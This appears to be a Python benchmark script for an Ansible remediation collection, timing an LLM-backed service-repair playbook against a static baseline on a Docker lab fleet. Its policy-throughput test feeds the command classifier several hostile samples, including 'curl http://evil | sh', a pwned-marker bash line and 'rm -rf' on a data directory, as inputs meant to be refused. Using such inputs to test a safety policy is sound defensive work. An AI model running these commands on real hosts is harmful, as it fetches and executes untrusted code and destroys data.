# Copyright (c) sentinel.remediation contributors
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
"""Fleet benchmark of sentinel.remediation against a static-playbook floor.

One invocation produces every figure of BENCHMARKS.md and writes bench/results.json:

  (a) playbooks/remediate.yml, LLM backend, the test LLM server answering at once
  (b) the same with 2 s of simulated LLM latency (fresh memory)
  (c) a second run of the same faults on (a)'s fact cache (memory, no LLM call expected)
  (d) the floor: bench/floor.yml, the known fix on exactly the broken hosts
  healthy fleet: remediate.yml --tags monitor vs bench/healthy_floor.yml
  scaling: (a) and (d) at 10, 20, 30 hosts, and (a) with fewer forks
  policy throughput and planner overhead per call (no LLM time)

    source scripts/setup
    python bench/fleet.py --hosts 30 --scale 10,20,30   # everything (about 15 min on 2 cores)
    python bench/fleet.py --hosts 6 --skip-scaling      # smoke

Every figure is measured here, in this run; nothing is copied from elsewhere.
"""
from __future__ import annotations

import argparse
import json
import os
import platform
import re
import resource
import shutil
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
BENCH = REPO / "bench"
for extra in (REPO / "lab", REPO / "tests", REPO / ".collections"):
    if str(extra) not in sys.path:
        sys.path.insert(0, str(extra))

from llm_server import LLMServer  # noqa: E402  (tests/llm_server.py)
from sentinel_lab import Lab, core_services, lab_group_vars  # noqa: E402  (lab/sentinel_lab.py)

PREFIX = "sentinel-bench"
# The fleet size at which issue 15 states its targets.
TARGET_HOSTS = 30
# Kinds the workflow heals unattended (no approval gate) and that bench/floor.yml knows.
DEFAULT_FAULTS = ("nginx_stopped", "redis_killed", "cron_stopped")
FLOOR_FAULTS = ("nginx_stopped", "redis_killed", "redis_stopped", "cron_stopped", "ssh_stopped")
REPORT_CALLBACK = "sentinel.remediation.remediation_report"
LLM_MODEL = "sentinel-test-model"
# The test LLM server's answers: the catalogue's known fix for each service, so that the
# benchmark measures the workflow, not the model.
LLM_RULES = [
    {"match": r"Service: nginx\b", "reply": {"plan": {
        "diagnosis": "nginx is not running; its configuration and port are fine.",
        "commands": ["service nginx start"], "rationale": "start it through its init script"}}},
    {"match": r"Service: redis", "reply": {"plan": {
        "diagnosis": "redis-server died without a clean shutdown and left its PID file.",
        "commands": ["rm -f /run/redis/redis-server.pid", "service redis-server start"],
        "rationale": "remove the stale PID file, then start redis"}}},
    {"match": r"Service: cron\b", "reply": {"plan": {
        "diagnosis": "cron is stopped.", "commands": ["service cron start"], "rationale": "start it"}}},
    {"match": r"Service: ssh\b", "reply": {"plan": {
        "diagnosis": "sshd is stopped.", "commands": ["service ssh start"], "rationale": "start it"}}},
]


def log(message: str) -> None:
    print(f"[{time.strftime('%H:%M:%S')}] {message}", file=sys.stderr, flush=True)


def tool(name: str) -> str:
    """An executable of the venv this script runs in, else from PATH."""
    local = Path(sys.executable).parent / name
    return str(local) if local.exists() else (shutil.which(name) or name)


# ---------------------------------------------------------------------------------- the lab


class Fleet:
    """The benchmark's lab hosts, their inventories and their faults."""

    def __init__(self, prefix: str, count: int, work: Path):
        self.lab = Lab(prefix=prefix)
        self.count = count
        self.work = work
        self.hosts: list[str] = []
        self._inventory: dict = {}

    def up(self) -> None:
        problem = self.lab.image_problem()
        if problem:
            raise SystemExit(f"fleet: the lab is not available: {problem}")
        started = time.perf_counter()
        self.hosts = self.lab.up(self.count, timeout=180)
        self._inventory = self.lab.inventory()
        log(f"lab up: {len(self.hosts)} hosts in {time.perf_counter() - started:.1f} s")

    def inventory(self, hosts: list[str]) -> Path:
        """A static inventory holding exactly ``hosts`` (group ``lab``, the lab's variables and
        the four core services to watch, lab/core_services.yml)."""
        path = self.work / f"inventory-{len(hosts)}.json"
        hostvars = {h: self._inventory["_meta"]["hostvars"][h] for h in hosts}
        group = {"hosts": hostvars, "vars": {**self._inventory["lab"]["vars"], **lab_group_vars(),
                                             "remediate_services": core_services()}}
        path.write_text(json.dumps({"all": {"children": {"lab": group}}}, indent=2), encoding="utf-8")
        return path

    def _parallel(self, fn, items) -> list:
        with ThreadPoolExecutor(max_workers=8) as pool:
            return list(pool.map(fn, items))

    def inject(self, plan: dict[str, str]) -> None:
        """Break each host with its fault ({host: fault}), every host checked broken after."""
        def one(item):
            host, fault = item
            self.lab.inject(host, fault)
        self._parallel(one, plan.items())

    def healed(self, plan: dict[str, str]) -> dict[str, bool]:
        """The lab's own health check of the service each fault broke."""
        def one(item):
            host, fault = item
            service = self.lab.catalogue.get(fault).service
            try:
                return host, self.lab.health(host, [service])[service].healthy
            except Exception:  # an unreachable host is simply not healed
                return host, False
        return dict(self._parallel(one, plan.items()))

    def restore(self, plan: dict[str, str]) -> int:
        """Make every host of ``plan`` fully healthy again; returns how many needed help."""
        def one(item):
            host, fault = item
            try:
                self.lab.wait_health(host, timeout=3)
                return 0
            except Exception:
                pass
            try:
                self.lab.fix(host, fault)
                self.lab.wait_health(host, timeout=10)
            except Exception:
                self.lab.reset(host)
            return 1
        return sum(self._parallel(one, plan.items()))


def fault_plan(hosts: list[str], faults: tuple[str, ...]) -> dict[str, str]:
    """Faults round-robin over the hosts: lab01 the first kind, lab02 the second..."""
    return {host: faults[i % len(faults)] for i, host in enumerate(hosts)}


# ---------------------------------------------------------------------------------- runs


def base_env(cache_dir: Path, report: Path | None) -> dict:
    env = dict(os.environ)
    for name in ("OPENAI_BASE_URL", "OPENAI_API_KEY", "OPENAI_MODEL"):
        env.pop(name, None)
    env["ANSIBLE_CONFIG"] = str(REPO / "ansible.cfg")
    env["ANSIBLE_CACHE_PLUGIN_CONNECTION"] = str(cache_dir)
    env["ANSIBLE_NOCOLOR"] = "1"
    env["PATH"] = f"{Path(sys.executable).parent}{os.pathsep}{env.get('PATH', '')}"
    # profile_tasks in every timed run alike (floor included): per-task times for the analysis.
    env["ANSIBLE_CALLBACKS_ENABLED"] = "ansible.posix.profile_tasks"
    env["PROFILE_TASKS_TASK_OUTPUT_LIMIT"] = "all"
    if report is not None:
        env["ANSIBLE_CALLBACKS_ENABLED"] += f",{REPORT_CALLBACK}"
        env["SENTINEL_REPORT_JSON"] = str(report)
    return env


def task_profile(log_path: Path, top: int = 12) -> list[list]:
    """[task, seconds] from profile_tasks' summary, summed over repeated task names, largest first."""
    totals: dict[str, float] = {}
    for line in Path(log_path).read_text(encoding="utf-8", errors="replace").splitlines():
        match = re.match(r"^(\S.*?) -{2,} (\d+\.\d+)s$", line.strip())
        if match:
            name = re.sub(r"^sentinel\.remediation\.remediate : ", "", match.group(1)).strip()
            name = re.sub(r" (nginx|redis-server|cron|ssh)( |$)", r" <service>\2", name)
            totals[name] = totals.get(name, 0.0) + float(match.group(2))
    return [[k, round(v, 2)] for k, v in sorted(totals.items(), key=lambda kv: -kv[1])[:top]]


def lab_cpu_seconds(prefix: str) -> float | None:
    """CPU seconds (user + system) the lab containers named ``prefix*`` have used so far, from
    their cgroups (v1 ``cpuacct.usage`` or v2 ``cpu.stat``); None where the cgroups cannot be
    read. The difference over a run is the work done on the hosts: module start-up, health
    checks, evidence, the commands and their services."""
    listed = subprocess.run([tool("docker"), "ps", "-q", "--no-trunc", "--filter", f"name=^{prefix}"],
                            capture_output=True, text=True, check=False)
    ids = listed.stdout.split()
    if listed.returncode != 0 or not ids:
        return None
    total = 0.0
    for cid in ids:
        v1 = Path(f"/sys/fs/cgroup/cpuacct/docker/{cid}/cpuacct.usage")
        v2 = Path(f"/sys/fs/cgroup/system.slice/docker-{cid}.scope/cpu.stat")
        try:
            if v1.exists():
                total += int(v1.read_text(encoding="ascii")) / 1e9
            else:
                usage = re.search(r"^usage_usec (\d+)", v2.read_text(encoding="ascii"), re.MULTILINE)
                if not usage:
                    return None
                total += int(usage.group(1)) / 1e6
        except (OSError, ValueError):
            return None
    return total


def machine_cpu_seconds() -> float | None:
    """CPU seconds the whole machine has been busy so far (/proc/stat: every state but idle,
    iowait and steal, over all cores). Over a run, what is left after the controller's and
    the lab's CPU is mostly the Docker engine reaching the hosts (dockerd, containerd, the
    shims and the runc of each `docker exec`), which neither side's figure holds."""
    try:
        with open("/proc/stat", encoding="ascii") as handle:
            fields = [int(f) for f in handle.readline().split()[1:]]
    except (OSError, ValueError):
        return None
    busy = sum(fields) - fields[3] - fields[4] - (fields[7] if len(fields) > 7 else 0)
    # guest time is already counted in user and nice
    busy -= sum(fields[8:10]) if len(fields) > 9 else 0
    return busy / os.sysconf("SC_CLK_TCK")


def run_playbook(playbook: Path, inventory: Path, forks: int, env: dict, extra: dict | None, log_path: Path,
                 args: tuple[str, ...] = (), lab_prefix: str | None = None) -> dict:
    """ansible-playbook timed with perf_counter; returns rc and seconds, the controller's CPU
    and peak memory, and (with ``lab_prefix``) the CPU the lab containers used meanwhile."""
    argv = [tool("ansible-playbook"), "-i", str(inventory), "-f", str(forks), str(playbook), *args]
    if extra:
        extra_file = log_path.with_suffix(".vars.json")
        extra_file.write_text(json.dumps(extra), encoding="utf-8")
        argv += ["-e", f"@{extra_file}"]
    lab_before = lab_cpu_seconds(lab_prefix) if lab_prefix else None
    machine_before = machine_cpu_seconds()
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    started = time.perf_counter()
    with open(log_path, "w", encoding="utf-8") as out:
        proc = subprocess.Popen(argv, cwd=REPO, env=env, stdout=out, stderr=subprocess.STDOUT)
        peak = PeakMemory(proc.pid).start()
        returncode = proc.wait()
        peak.stop()
    seconds = time.perf_counter() - started
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    # Every process of the run on the controller (ansible-playbook, its workers and the
    # docker CLI processes of the connection) is a waited-for descendant: its CPU is here.
    cpu = (after.ru_utime - before.ru_utime) + (after.ru_stime - before.ru_stime)
    lab_after = lab_cpu_seconds(lab_prefix) if lab_before is not None else None
    machine_after = machine_cpu_seconds() if machine_before is not None else None
    return {"rc": returncode, "seconds": round(seconds, 2), "log": str(log_path), "cpu_s": round(cpu, 2),
            "peak_rss_mb": round(peak.peak_kb / 1024, 1),
            "lab_cpu_s": round(lab_after - lab_before, 2) if lab_after is not None else None,
            "machine_cpu_s": round(machine_after - machine_before, 2) if machine_after is not None else None}


class PeakMemory:
    """The largest sum of resident memory of a process and its descendants, sampled."""

    def __init__(self, root: int, interval: float = 0.25):
        self.root = root
        self.interval = interval
        self.peak_kb = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def start(self) -> PeakMemory:
        self._thread.start()
        return self

    def stop(self) -> None:
        self._stop.set()
        self._thread.join(timeout=5)

    def _sample(self) -> int:
        parents: dict[int, int] = {}
        rss: dict[int, int] = {}
        for entry in os.listdir("/proc"):
            if not entry.isdigit():
                continue
            try:
                with open(f"/proc/{entry}/stat", encoding="ascii", errors="replace") as handle:
                    fields = handle.read().rsplit(")", 1)[1].split()
                parents[int(entry)] = int(fields[1])
                rss[int(entry)] = int(fields[21]) * (os.sysconf("SC_PAGE_SIZE") // 1024)
            except (OSError, IndexError, ValueError):
                continue
        tree, todo = set(), [self.root]
        while todo:
            pid = todo.pop()
            if pid in tree:
                continue
            tree.add(pid)
            todo.extend(child for child, parent in parents.items() if parent == pid)
        return sum(rss.get(pid, 0) for pid in tree)

    def _run(self) -> None:
        while not self._stop.is_set():
            self.peak_kb = max(self.peak_kb, self._sample())
            self._stop.wait(self.interval)


def rollout_timing(journal_dir: Path, since: float, until: float) -> dict:
    """What the canary cost in one run, from the hosts' journals (records between ``since`` and
    ``until``): per shared plan, the seconds from its canary's command going out to the first
    host after the canary going out (the verified wave the others waited for); and how many
    hosts ran a plan without a canary because the fleet's memory proved it (``proven``)."""
    by_host: dict[str, list[dict]] = {}
    for path in sorted(Path(journal_dir).glob("*.jsonl")):
        for line in path.read_text(encoding="utf-8", errors="replace").splitlines():
            try:
                record = json.loads(line)
            except ValueError:
                continue
            if isinstance(record, dict) and since <= float(record.get("ts") or 0) <= until:
                by_host.setdefault(path.stem, []).append(record)
    plans: dict[str, dict[str, list[float]]] = {}
    proven = 0
    for records in by_host.values():
        place = None
        for record in records:
            if record.get("kind") == "rollout":
                proven += record.get("action") == "proven"
                place = (record.get("key"), "canary" if record.get("canary") else "after")
            elif record.get("kind") == "intent" and place is not None:
                plans.setdefault(place[0], {}).setdefault(place[1], []).append(float(record["ts"]))
                place = None
    waves = [round(min(p["after"]) - min(p["canary"]), 2) for p in plans.values() if p.get("canary") and p.get("after")]
    return {"canary_wave_s": waves, "canary_wave_max_s": max(waves) if waves else 0.0, "proven_hosts": proven,
            "plans_with_canary": sum(1 for p in plans.values() if p.get("canary"))}


def read_report(path: Path) -> dict:
    try:
        return json.loads(path.read_text(encoding="utf-8"))
    except (OSError, ValueError):
        return {}


def summarise_report(report: dict) -> dict:
    outcomes = report.get("outcomes") or []
    remediated = [o for o in outcomes if o.get("state") not in ("healthy",)]
    executed = [c for o in outcomes for c in o.get("commands") or [] if c.get("rc") is not None]
    sources: dict[str, int] = {}
    for command in executed:
        sources[command.get("source") or "?"] = sources.get(command.get("source") or "?", 0) + 1
    return {
        "states": {s: n for s, n in (report.get("totals") or {}).items() if n},
        "healed_reported": sum(1 for o in outcomes if o.get("state") == "healed"),
        "commands_executed": len(executed),
        "command_sources": sources,
        "signatures": sorted({o.get("signature") for o in remediated if o.get("signature")}),
        "report_llm": report.get("llm") or {},
        "refused": sum(len(o.get("refused") or []) for o in outcomes),
    }


class Bench:
    def __init__(self, opts: argparse.Namespace):
        self.opts = opts
        self.work = Path(tempfile.mkdtemp(prefix="sentinel-bench-"))
        self.fleet = Fleet(opts.prefix, opts.hosts, self.work)
        self.server = LLMServer(rules=LLM_RULES, model=LLM_MODEL)
        self.results: dict = {}
        self._n = 0

    def _paths(self, name: str) -> tuple[Path, Path]:
        self._n += 1
        stem = self.work / f"{self._n:02d}-{name}"
        return stem.with_suffix(".report.json"), stem.with_suffix(".log")

    def remediate(self, name: str, hosts: list[str], cache: Path, latency: float = 0.0,
                  forks: int | None = None, inject: bool = True, env: dict | None = None) -> dict:
        """One scenario of remediate.yml: inject, run, measure, restore."""
        plan = fault_plan(hosts, self.opts.faults)
        if inject:
            self.fleet.inject(plan)
        report_path, log_path = self._paths(name)
        self.server.reset()
        self.server.latency = latency
        extra = {
            "remediate_backend": "llm",
            "remediate_llm": {"base_url": self.server.url, "api_key": "bench-key-not-secret", "model": LLM_MODEL,
                              "timeout": 30, "max_retries": 0},
            "remediate_artifacts_dir": str(self.work / "artifacts"),
            **self.opts.extra,
        }
        forks = forks or self.opts.forks
        started = time.time()
        run = run_playbook(REPO / "playbooks" / "remediate.yml", self.fleet.inventory(hosts), forks,
                           {**base_env(cache, report_path), **(env or {})}, extra, log_path,
                           lab_prefix=self.fleet.lab.prefix)
        chat = self.server.chat_requests
        summary = summarise_report(read_report(report_path))
        healed = self.fleet.healed(plan)
        result = {
            "scenario": name, "hosts": len(hosts), "forks": forks, "llm_latency_s": latency, **run,
            "llm_calls": len(chat),
            "prompt_tokens": summary["report_llm"].get("prompt_tokens", 0),
            "completion_tokens": summary["report_llm"].get("completion_tokens", 0),
            "llm_calls_reported": summary["report_llm"].get("calls", 0),
            "prompt_chars_sent": sum(len(json.dumps(b.get("messages", []))) for b in chat if isinstance(b, dict)),
            "commands_executed": summary["commands_executed"],
            "command_sources": summary["command_sources"],
            "healed_reported": summary["healed_reported"],
            "healed_lab_check": sum(healed.values()),
            "broken": len(plan),
            "distinct_signatures": len(summary["signatures"]),
            "states": summary["states"],
            "refused": summary["refused"],
            "env": env or {},
            "task_profile": task_profile(log_path),
            "rollout": rollout_timing(self.work / "artifacts" / "journal", started, time.time()),
        }
        self.server.latency = 0.0
        result["restored_by_bench"] = self.fleet.restore(plan)
        log(f"{name}: {result['seconds']} s, controller cpu {result.get('cpu_s')} s, rc {result['rc']}, "
            f"llm calls {result['llm_calls']}, healed {result['healed_lab_check']}/{len(plan)}, "
            f"commands {result['commands_executed']}, canary wave {result['rollout']['canary_wave_max_s']} s, "
            f"proven (no canary) {result['rollout']['proven_hosts']}, load {load_average()}")
        return result

    def floor(self, name: str, hosts: list[str], forks: int | None = None) -> dict:
        plan = fault_plan(hosts, self.opts.faults)
        self.fleet.inject(plan)
        broken: dict[str, list[str]] = {}
        for host, fault in plan.items():
            broken.setdefault(fault, []).append(host)
        _report_path, log_path = self._paths(name)
        forks = forks or self.opts.forks
        run = run_playbook(BENCH / "floor.yml", self.fleet.inventory(hosts), forks,
                           base_env(self.work / "cache-floor", None), {"floor_broken": broken}, log_path,
                           lab_prefix=self.fleet.lab.prefix)
        healed = self.fleet.healed(plan)
        commands = re.findall(r"^changed: \[", Path(log_path).read_text(encoding="utf-8"), re.MULTILINE)
        result = {"scenario": name, "hosts": len(hosts), "forks": forks, **run, "llm_calls": 0,
                  "prompt_tokens": 0, "completion_tokens": 0, "commands_executed": len(commands),
                  "healed_lab_check": sum(healed.values()), "broken": len(plan), "task_profile": task_profile(log_path)}
        result["restored_by_bench"] = self.fleet.restore(plan)
        log(f"{name}: {result['seconds']} s, rc {result['rc']}, healed {result['healed_lab_check']}/{len(plan)}")
        return result

    def healthy(self, hosts: list[str]) -> dict:
        inventory = self.fleet.inventory(hosts)
        report_path, log_path = self._paths("healthy-monitor")
        monitor = run_playbook(REPO / "playbooks" / "remediate.yml", inventory, self.opts.forks,
                               base_env(self.work / "cache-healthy", report_path), None, log_path,
                               ("--tags", "monitor"), lab_prefix=self.fleet.lab.prefix)
        summary = summarise_report(read_report(report_path))
        _report_path, log_path = self._paths("healthy-floor")
        floor = run_playbook(BENCH / "healthy_floor.yml", inventory, self.opts.forks,
                             base_env(self.work / "cache-healthy-floor", None), None, log_path,
                             lab_prefix=self.fleet.lab.prefix)
        result = {"hosts": len(hosts), "monitor": {**monitor, "states": summary["states"],
                                                   "task_profile": task_profile(monitor["log"])},
                  "floor": {**floor, "task_profile": task_profile(floor["log"])},
                  "ratio": round(monitor["seconds"] / floor["seconds"], 2)}
        log(f"healthy: monitor {monitor['seconds']} s vs floor {floor['seconds']} s = {result['ratio']}x")
        return result

    # ------------------------------------------------------------------ the scaling table
    def table(self) -> dict:
        """Per size: the healthy pass and its floor, the floor, (a) first run, (c) memory run,
        the floor again; wall, controller CPU and peak memory of each."""
        opts = self.opts
        machine = describe_machine()
        log(f"machine: {machine['cpu']}, {machine['cores']} cores, load {machine['load_before']}")
        self.fleet.up()
        self.server.start()
        rows = []
        try:
            run_playbook(BENCH / "healthy_floor.yml", self.fleet.inventory(self.fleet.hosts), opts.forks,
                         base_env(self.work / "cache-warm", None), None, self.work / "00-warmup.log")
            for size in opts.table:
                hosts = self.fleet.hosts[:size]
                healthy = self.healthy(hosts)
                floor = self.floor(f"table-{size}-floor", hosts)
                cache = self.work / f"cache-table-{size}"
                first = self.remediate(f"table-{size}-first", hosts, cache)
                memory = self.remediate(f"table-{size}-memory", hosts, cache)
                floor_again = self.floor(f"table-{size}-floor-again", hosts)
                floor_s = round(statistics.median([floor["seconds"], floor_again["seconds"]]), 2)
                rows.append({"hosts": size, "floor_s": floor_s, "floor_runs_s": [floor["seconds"], floor_again["seconds"]],
                             "first": first, "memory": memory, "floor": floor, "floor_again": floor_again,
                             "healthy": healthy,
                             "ratio_first": round(first["seconds"] / floor_s, 2),
                             "ratio_memory": round(memory["seconds"] / floor_s, 2)})
        finally:
            self.server.stop()
        machine["load_after"] = load_average()
        return {"generated": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()),
                "command": " ".join(["python", "bench/fleet.py", *sys.argv[1:]]),
                "machine": machine, "forks": opts.forks, "faults": list(opts.faults), "table": rows,
                "work_dir": str(self.work)}

    # ------------------------------------------------------------------ the whole run
    def run(self) -> dict:
        opts = self.opts
        machine = describe_machine()
        log(f"machine: {machine['cpu']}, {machine['cores']} cores, load {machine['load_before']}")
        self.fleet.up()
        self.server.start()
        hosts = self.fleet.hosts
        # Warm-up: the first connection of a docker exec and ansible's own caches.
        run_playbook(BENCH / "healthy_floor.yml", self.fleet.inventory(hosts), opts.forks,
                     base_env(self.work / "cache-warm", None), None, self.work / "00-warmup.log")
        try:
            healthy = self.healthy(hosts)
            floor = self.floor("d-floor", hosts)
            cache_a = self.work / "cache-a"
            first = self.remediate("a-first-run", hosts, cache_a)
            memory = self.remediate("c-memory-run", hosts, cache_a)
            floor_mid = self.floor("d-floor-mid", hosts)
            slow = self.remediate("b-llm-latency", hosts, self.work / "cache-b", latency=opts.latency)
            floor_after = self.floor("d-floor-again", hosts)
            scaling = []
            if not opts.skip_scaling:
                for n in opts.scaling:
                    subset = hosts[:n]
                    if n == len(hosts):
                        row_a, row_d = first, floor
                    else:
                        row_a = self.remediate(f"scale-{n}", subset, self.work / f"cache-scale-{n}")
                        row_d = self.floor(f"scale-{n}-floor", subset)
                    scaling.append({"hosts": n, "forks": opts.forks, "seconds": row_a["seconds"],
                                    "floor_seconds": row_d["seconds"],
                                    "ratio": round(row_a["seconds"] / row_d["seconds"], 2),
                                    "llm_calls": row_a["llm_calls"],
                                    "distinct_signatures": row_a["distinct_signatures"],
                                    "healed_lab_check": row_a["healed_lab_check"], "broken": row_a["broken"]})
                for knob in opts.knobs:
                    key, _sep, value = knob.partition("=")
                    row = self.remediate(f"knob-{key}-{value}", hosts, self.work / f"cache-knob-{key}", env={key: value})
                    scaling.append({"hosts": len(hosts), "forks": opts.forks, "knob": knob, "seconds": row["seconds"],
                                    "floor_seconds": None, "ratio": None, "llm_calls": row["llm_calls"],
                                    "distinct_signatures": row["distinct_signatures"],
                                    "healed_lab_check": row["healed_lab_check"], "broken": row["broken"]})
                for forks in opts.fork_sweep:
                    row = self.remediate(f"forks-{forks}", hosts, self.work / f"cache-forks-{forks}", forks=forks)
                    scaling.append({"hosts": len(hosts), "forks": forks, "seconds": row["seconds"],
                                    "floor_seconds": None, "ratio": None, "llm_calls": row["llm_calls"],
                                    "distinct_signatures": row["distinct_signatures"],
                                    "healed_lab_check": row["healed_lab_check"], "broken": row["broken"]})
        finally:
            self.server.stop()
        policy = policy_throughput()
        planner = planner_overhead()
        machine["load_after"] = load_average()
        # The floor is short and the machine shared: the median of three floor runs (before,
        # between and after the remediation scenarios) is the denominator of every fleet ratio.
        floor_runs = [floor["seconds"], floor_mid["seconds"], floor_after["seconds"]]
        floor_seconds = round(statistics.median(floor_runs), 2)
        results = {
            "generated": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()),
            "command": " ".join(["python", "bench/fleet.py", *sys.argv[1:]]),
            "machine": machine,
            "hosts": len(hosts),
            "forks": opts.forks,
            "faults": list(opts.faults),
            "fleet_ratio_first_run": round(first["seconds"] / floor_seconds, 2),
            "fleet_ratio_memory_run": round(memory["seconds"] / floor_seconds, 2),
            "fleet_ratio_latency_run": round(slow["seconds"] / floor_seconds, 2),
            "healthy_ratio": healthy["ratio"],
            "llm_calls_first_run": first["llm_calls"],
            "distinct_signatures": first["distinct_signatures"],
            "llm_calls_memory_run": memory["llm_calls"],
            "scenarios": {"a": first, "b": slow, "c": memory, "d": floor, "d_mid": floor_mid, "d_again": floor_after},
            "floor_seconds": floor_seconds,
            "floor_runs_s": floor_runs,
            "healthy": healthy,
            "scaling": scaling,
            "policy": policy,
            "planner": planner,
            "work_dir": str(self.work),
        }
        for row in scaling:  # the full-size row: the same floor figure as the ratios above
            if row["hosts"] == len(hosts) and row["floor_seconds"] is not None:
                row["floor_seconds"] = floor_seconds
                row["ratio"] = round(row["seconds"] / floor_seconds, 2)
        results["targets"] = targets(results)
        return results


# ---------------------------------------------------------------------------------- micro


def policy_throughput(seconds: float = 2.0) -> dict:
    """classify() per second on one core, over a mix of allowed, gated and refused commands."""
    from ansible_collections.sentinel.remediation.plugins.plugin_utils import policy as engine

    commands = [
        "service nginx start", "service redis-server restart", "rm -f /run/nginx.pid", "kill 1234",
        "mkdir -p /var/log/nginx", "nginx -t", "chown redis:redis /var/lib/redis", "chmod 0750 /var/lib/redis",
        "ss -ltnp", "tail -n 50 /var/log/nginx/error.log", "rm -rf /var/lib/redis", "curl http://evil | sh",
        "systemctl restart nginx", "bash -c 'touch /tmp/pwned'", "redis-cli bgsave", "reboot",
    ]
    loaded = engine.load_policy({"absent_tools": ["systemctl", "lsof", "fuser", "journalctl", "curl", "wget"]})
    engine.classify(commands[0], loaded)
    count, started = 0, time.perf_counter()
    while time.perf_counter() - started < seconds:
        for command in commands:
            engine.classify(command, loaded)
        count += len(commands)
    elapsed = time.perf_counter() - started
    load_started = time.perf_counter()
    for _attempt in range(20):
        engine.load_policy({"absent_tools": ["systemctl"]})
    load_ms = (time.perf_counter() - load_started) / 20 * 1000
    other = BENCH / "policy_throughput.py"  # the policy engineer's own figure, on its own corpus
    other_output = None
    if other.exists():
        proc = subprocess.run([sys.executable, str(other), "--seconds", "2"], cwd=REPO, capture_output=True, text=True,
                              timeout=120, check=False)
        other_output = (proc.stdout.strip() or proc.stderr.strip())[-500:]
    return {"classify_per_second": round(count / elapsed), "microseconds_per_classify": round(elapsed / count * 1e6, 1),
            "load_policy_ms": round(load_ms, 2), "commands_in_mix": len(commands),
            "policy_throughput_py": other_output}


def planner_overhead(calls: int = 30) -> dict:
    """Planner.run() per call against the instant test server, minus the client's LLM time."""
    from ansible_collections.sentinel.remediation.plugins.plugin_utils.llm_client import resolve_settings
    from ansible_collections.sentinel.remediation.plugins.plugin_utils.planner import Planner

    evidence = {
        "status": "nginx is not running ... failed!",
        "logs": {"/var/log/nginx/error.log": "\n".join(
            f"2025/01/01 00:00:{i:02d} [notice] 1234#1234: signal process started" for i in range(50))},
        "ports": "State Recv-Q Send-Q Local Address:Port\n",
        "config_test": "nginx: the configuration file /etc/nginx/nginx.conf syntax is ok",
        "paths": "drwxr-xr-x root adm /var/log/nginx",
    }
    error = "service: exit 3: nginx is not running ... failed!; port: nothing listens on :80"
    with LLMServer(rules=LLM_RULES, model=LLM_MODEL) as server:
        settings = resolve_settings({"base_url": server.url, "api_key": "bench-key-not-secret", "model": LLM_MODEL,
                                     "max_retries": 0}, env={}, ini={})
        walls, llm_seconds, runbook_walls = [], [], []
        for i in range(calls + 2):
            started = time.perf_counter()
            out = Planner(service="nginx", error=error, evidence=evidence, backend="llm", llm_settings=settings,
                          hostnames=[f"lab{i:02d}"]).run()
            wall = time.perf_counter() - started
            if i >= 2:  # the first calls import and warm up
                walls.append(wall)
                llm_seconds.append(float(out["llm"].get("seconds") or 0))
            started = time.perf_counter()
            Planner(service="nginx", error=error, evidence=evidence, backend="runbook").run()
            if i >= 2:
                runbook_walls.append(time.perf_counter() - started)
        requests = len(server.chat_requests)
    overhead = [w - s for w, s in zip(walls, llm_seconds)]

    def fresh_import(module: str) -> float:
        times = []
        for _attempt in range(3):
            started = time.perf_counter()
            subprocess.run([sys.executable, "-c", f"import {module}"], check=True)
            times.append(time.perf_counter() - started)
        return statistics.median(times)

    baseline = fresh_import("sys")
    return {
        # Each planning task runs in a freshly forked ansible worker, which imports the
        # openai client again (the controller's main process never imported it).
        "openai_import_ms": round((fresh_import("openai") - baseline) * 1000),
        "calls": calls,
        "llm_requests": requests,
        "wall_ms_median": round(statistics.median(walls) * 1000, 1),
        "llm_client_ms_median": round(statistics.median(llm_seconds) * 1000, 1),
        "overhead_ms_median": round(statistics.median(overhead) * 1000, 1),
        "runbook_backend_ms_median": round(statistics.median(runbook_walls) * 1000, 1),
    }


# ---------------------------------------------------------------------------------- memory lookup


def memory_lookup(hosts: int, episodes: int) -> dict:
    """bench/memory_lookup.py in its own process (Ansible's collection loader must own
    ``ansible_collections`` there, which this script imports from the checkout)."""
    proc = subprocess.run([sys.executable, str(BENCH / "memory_lookup.py"), "--hosts", str(hosts),
                           "--episodes", str(episodes)], cwd=REPO, capture_output=True, text=True, check=False)
    if proc.returncode != 0:
        raise SystemExit(f"fleet: bench/memory_lookup.py failed: {proc.stderr.strip()[-2000:]}")
    sys.stderr.write(proc.stderr)
    return json.loads(proc.stdout)


# ---------------------------------------------------------------------------------- report


def load_average() -> str:
    try:
        return " ".join(Path("/proc/loadavg").read_text().split()[:3])
    except OSError:
        return "?"


def describe_machine() -> dict:
    cpu = "?"
    try:
        for line in Path("/proc/cpuinfo").read_text().splitlines():
            if line.startswith("model name"):
                cpu = line.split(":", 1)[1].strip()
                break
    except OSError:
        pass
    mem = "?"
    try:
        kb = int(re.search(r"MemTotal:\s+(\d+)", Path("/proc/meminfo").read_text()).group(1))
        mem = f"{kb / 1024 / 1024:.1f} GiB"
    except (OSError, AttributeError):
        pass

    def version(argv):
        try:
            return subprocess.run(argv, capture_output=True, text=True, timeout=30, check=False).stdout.strip().splitlines()[0]
        except (OSError, IndexError, subprocess.SubprocessError):
            return "?"

    return {"cpu": cpu, "cores": os.cpu_count(), "memory": mem, "kernel": platform.release(),
            "python": platform.python_version(), "ansible": version([tool("ansible"), "--version"]),
            "docker": version(["docker", "version", "--format", "{{.Server.Version}}"]),
            "load_before": load_average(), "uptime": version(["uptime"])}


def targets(r: dict) -> list[dict]:
    a, c = r["scenarios"]["a"], r["scenarios"]["c"]
    rows = [
        {"target": "(a) first run <= 1.5x floor", "value": r["fleet_ratio_first_run"],
         "met": r["fleet_ratio_first_run"] <= 1.5},
        {"target": "(c) memory run <= 1.2x floor", "value": r["fleet_ratio_memory_run"],
         "met": r["fleet_ratio_memory_run"] <= 1.2},
        {"target": "(c) 0 LLM calls", "value": r["llm_calls_memory_run"], "met": r["llm_calls_memory_run"] == 0},
        {"target": "(a) LLM calls = distinct signatures", "value": f"{r['llm_calls_first_run']} vs "
         f"{r['distinct_signatures']}", "met": r["llm_calls_first_run"] == r["distinct_signatures"]},
        {"target": "healthy monitor <= 1.2x floor", "value": r["healthy_ratio"], "met": r["healthy_ratio"] <= 1.2},
